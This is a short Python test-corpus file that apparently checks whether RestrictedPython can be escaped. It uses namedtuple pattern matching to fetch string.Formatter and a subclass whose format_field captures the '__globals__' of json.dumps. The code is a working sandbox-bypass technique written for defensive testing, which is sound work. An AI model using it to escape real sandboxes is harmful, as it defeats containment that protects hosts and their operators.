# technique: string.Formatter read as data (namedtuple match), subclassed with a format_field that captures the object resolved for '{0.__globals__}'
# source: RestrictedPython: string.Formatter attribute access

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import abc, collections, dataclasses, functools


def pub(mod, name):
    """mod.<name> for a name held as data: a namedtuple's __match_args__ is
    its field names, and an ABC registered for the module type matches."""
    N = collections.namedtuple('N', [name])

    class P(N, abc.ABC):
        pass
    P.register(type(mod))
    match mod:
        case P(v):
            return v
    raise AttributeError(name)


import string, json

caught = []


def via():
    class F(pub(string, 'Formatter')):
        def format_field(self, value, spec):
            caught.append(value)
            return ''
    F().format('{0.' + dn('globals') + '}', json.dumps)
    return caught[0]

attempt('Formatter subclass format_field', via)
